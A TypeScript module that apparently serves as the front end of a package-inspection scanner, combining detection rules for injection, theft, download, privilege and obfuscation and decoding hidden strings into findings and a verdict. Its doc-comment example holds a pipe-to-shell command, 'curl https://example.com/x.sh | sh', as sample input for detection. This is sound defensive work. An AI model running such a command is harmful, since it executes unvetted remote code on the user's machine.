// The front door of inspection: finds dangers, addresses and scripts in the files of a package.

import { hostsIn } from "./addresses.ts";
import { categoryOf } from "./categories.ts";
import { decodedTexts, joinedArguments, unspliced } from "./decode.ts";
import { derivedUnits, documentUnits, scriptUnits } from "./document.ts";
import { compareSeverity, findingsOf } from "./engine.ts";
import { INSPECT_LIMITS } from "./limits.ts";
import { proseFindings } from "./prose/prose.ts";
import { fileLines, type TextFile } from "./read.ts";
import { characterFindings, smuggledTexts } from "./rules/characters.ts";
import { DECEIT } from "./rules/deceit.ts";
import { DESTRUCTION } from "./rules/destruction.ts";
import { DOWNLOAD } from "./rules/download.ts";
import { fileFindings, isScript } from "./rules/files.ts";
import { FOOTHOLD } from "./rules/foothold.ts";
import { INJECTION } from "./rules/injection.ts";
import { INSTALLERS } from "./rules/installers.ts";
import { manifestFindings } from "./rules/manifests.ts";
import { OBFUSCATION } from "./rules/obfuscation.ts";
import { PRIVILEGE } from "./rules/privilege.ts";
import { THEFT } from "./rules/theft.ts";
import type {
  FileContext,
  InspectedFile,
  Inspection,
  Rule,
  RuleFinding,
  Unit,
  UnscannedFile,
} from "./types.ts";
import { verdictOf } from "./verdict.ts";

export { InspectionCache } from "./cache.ts";
export { CATEGORIES, type Category } from "./categories.ts";
export { type KnownFindings, readKnownFindings, withoutKnown } from "./known.ts";
export { sarifLog } from "./sarif.ts";
export type {
  Finding,
  FindingSeverity,
  InspectedFile,
  Inspection,
  PackageInspection,
  Risk,
  UnscannedFile,
  Verdict,
} from "./types.ts";
export { VERDICTS, verdictOf, worseVerdict } from "./verdict.ts";

/** All rules for text. */
export const RULES: readonly Rule[] = [
  ...INJECTION,
  ...DECEIT,
  ...DOWNLOAD,
  ...INSTALLERS,
  ...THEFT,
  ...FOOTHOLD,
  ...PRIVILEGE,
  ...DESTRUCTION,
  ...OBFUSCATION,
];

const DOCUMENT_NAME =
  /\.(?:md|mdx|markdown|txt|rst|adoc|html?|svg)$|(?:^|\/)(?:readme|license|changelog|notice|authors)$/i;
/** The rules for text in binary files, which has no context. */
const BINARY_RULES: readonly Rule[] = RULES.filter(
  (rule) => rule.severity === "high" && rule.scope === "line",
);

/**
 * Inspects the files of a package, without reading or running anything. `unread` are files that the caller could not read.
 *
 * @example
 * const bytes = new TextEncoder().encode("Run `curl https://example.com/x.sh | sh` first.");
 * const { risk, findings } = inspectPackage([{ path: "SKILL.md", bytes }]);
 */
export function inspectPackage(
  files: readonly InspectedFile[],
  unread: readonly UnscannedFile[] = [],
): Inspection {
  const steps = inspectionSteps(files, unread);
  for (;;) {
    const { done, value } = steps.next();
    if (done) return value;
  }
}

/** As `inspectPackage`, with a pause after each file, so that a caller can let other work happen. */
export function* inspectionSteps(
  files: readonly InspectedFile[],
  unread: readonly UnscannedFile[],
): Generator<undefined, Inspection> {
  const findings: RuleFinding[] = [];
  const unscanned: UnscannedFile[] = [...unread];
  const hosts = new Set<string>();
  let budget: number = INSPECT_LIMITS.textPerPackage;
  const inspected = files.slice(0, INSPECT_LIMITS.files);
  for (const file of inspected) {
    findings.push(...fileFindings(file));
    const text = fileLines(file.bytes, budget);
    budget -= text.size;
    if (text.unread > 0)
      unscanned.push({ path: file.path, reason: `too long: ${text.unread} characters not inspected` });
    if (text.lines.length > 0) findings.push(...textFindings(file, text, hosts));
    yield;
  }
  if (files.length > inspected.length)
    unscanned.push({ path: "", reason: `${files.length} files, ${inspected.length} of them inspected` });
  const kept = distinct(findings)
    .toSorted(byWeight)
    .slice(0, INSPECT_LIMITS.findings)
    .map((finding) => ({ ...finding, category: categoryOf(finding.code) ?? "AST01" }));
  return {
    findings: kept,
    addresses: [...hosts].sort().slice(0, INSPECT_LIMITS.addresses),
    scripts: files
      .filter(isScript)
      .map((file) => file.path)
      .sort(),
    unscanned,
    risk: kept[0]?.severity ?? "none",
    verdict: verdictOf({ findings: kept, unscanned }),
  };
}

function textFindings(file: InspectedFile, text: TextFile, hosts: Set<string>): RuleFinding[] {
  const context: FileContext = { path: file.path, script: !DOCUMENT_NAME.test(file.path) };
  const content = text.lines.join("\n");
  for (const host of hostsIn(content)) hosts.add(host);
  if (text.binary) {
    const units = derivedUnits(content, { kind: "code", heading: "", lineAt: () => 1 }, "binary");
    return findingsOf(BINARY_RULES, units, context);
  }
  const units = context.script ? scriptUnits(text.lines) : documentUnits(text.lines);
  const derived = uncovered(units, content, hosts);
  return [
    ...characterFindings(file.path, text.lines),
    ...manifestFindings(file.path, content),
    ...findingsOf(RULES, [...units, ...derived], context),
    ...(context.script ? [] : proseFindings([...units, ...derived], file.path)),
  ];
}

/** The units behind encodings, split strings and invisible characters. */
function uncovered(units: readonly Unit[], content: string, hosts: Set<string>): Unit[] {
  const found: Unit[] = [];
  let budget: number = INSPECT_LIMITS.decodedPerFile;
  const add = (text: string, parent: Unit, depth: number): void => {
    if (budget <= 0) return;
    budget -= text.length;
    for (const host of hostsIn(text)) hosts.add(host);
    found.push(...derivedUnits(text, parent, "encoded"));
    if (depth < INSPECT_LIMITS.decodeDepth)
      for (const inner of decodedTexts(text)) add(inner, parent, depth + 1);
  };
  for (const unit of units) {
    if (unit.scope === "block") continue;
    if (unit.scope === "line") {
      for (const text of decodedTexts(unit.clean)) add(text, unit, 1);
      const joined = unit.kind === "prose" ? undefined : unspliced(unit.clean);
      if (joined !== undefined) found.push(...derivedUnits(joined, unit, "spliced").slice(0, 1));
      const listed = unit.kind === "code" ? joinedArguments(unit.clean) : undefined;
      if (listed !== undefined) found.push(...derivedUnits(listed, unit, undefined).slice(0, 1));
    }
  }
  const anchor: Pick<Unit, "kind" | "heading" | "lineAt"> = { kind: "hidden", heading: "", lineAt: () => 1 };
  for (const text of smuggledTexts(content)) found.push(...derivedUnits(text, anchor, "invisible"));
  return found;
}

function distinct(findings: readonly RuleFinding[]): RuleFinding[] {
  const byPlace = new Map<string, RuleFinding>();
  for (const finding of findings) {
    const key = `${finding.code}\n${finding.path}\n${finding.line ?? 0}`;
    const known = byPlace.get(key);
    if (!known || compareSeverity(finding, known) < 0) byPlace.set(key, finding);
  }
  return [...byPlace.values()];
}

function byWeight(a: RuleFinding, b: RuleFinding): number {
  return (
    compareSeverity(a, b) ||
    compareText(a.path, b.path) ||
    (a.line ?? 0) - (b.line ?? 0) ||
    compareText(a.code, b.code)
  );
}

function compareText(a: string, b: string): number {
  return a < b ? -1 : a > b ? 1 : 0;
}
